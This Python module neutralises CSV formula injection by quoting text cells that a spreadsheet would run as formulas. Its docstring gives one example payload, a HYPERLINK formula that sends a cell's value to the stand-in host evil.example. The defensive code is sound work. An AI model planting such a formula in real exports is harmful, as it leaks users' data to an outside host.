"""CSV that a spreadsheet opens as data, never as formulas.

A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is a formula to
Excel, LibreOffice and Google Sheets (OWASP, "CSV Injection"): an imported file could carry
``=HYPERLINK("http://evil.example/?leak="&A1, "click me")`` into a download. Every CSV the
project writes goes through :func:`spreadsheet_safe_csv`, which prefixes such text cells with a
single quote, as OWASP advises. Numbers are left alone, so ``-3.5`` stays a number.
"""

from __future__ import annotations

import re
from typing import Final

import pandas as pd

#: First characters that make a spreadsheet read a cell as a formula.
FORMULA_PREFIXES: Final = ("=", "+", "-", "@", "\t", "\r")
#: A plain decimal number (optionally signed, with a fraction or exponent): not a formula.
_NUMBER: Final = re.compile(r"[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][+-]?[0-9]+)?", re.ASCII)


def neutralise_cell(value: str) -> str:
    """A text cell, quoted with a leading ``'`` when a spreadsheet would run it as a formula.

    Parameters
    ----------
    value
        The cell's text.

    Returns
    -------
    str
        ``value`` unchanged if it is safe or a plain number, else ``"'" + value``.
    """
    if value.startswith(FORMULA_PREFIXES) and _NUMBER.fullmatch(value) is None:
        return "'" + value
    return value


def spreadsheet_safe(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells cannot be read as formulas.

    Parameters
    ----------
    frame
        Any table; only its text (object or string) columns are changed.

    Returns
    -------
    pandas.DataFrame
        The same rows and columns, text cells passed through :func:`neutralise_cell`.
    """
    safe = frame.copy()
    for column in safe.columns:
        series = safe[column]
        if pd.api.types.is_numeric_dtype(series) or pd.api.types.is_datetime64_any_dtype(series):
            continue
        safe[column] = series.map(_neutralise_any, na_action="ignore")
    return safe


def spreadsheet_safe_csv(frame: pd.DataFrame) -> str:
    """``frame`` as CSV text (no index, Unix line ends) with formula cells neutralised.

    Parameters
    ----------
    frame
        The table to write.

    Returns
    -------
    str
        The CSV text.
    """
    return spreadsheet_safe(frame).to_csv(index=False, lineterminator="\n")


def _neutralise_any(value: object) -> object:
    return neutralise_cell(value) if isinstance(value, str) else value
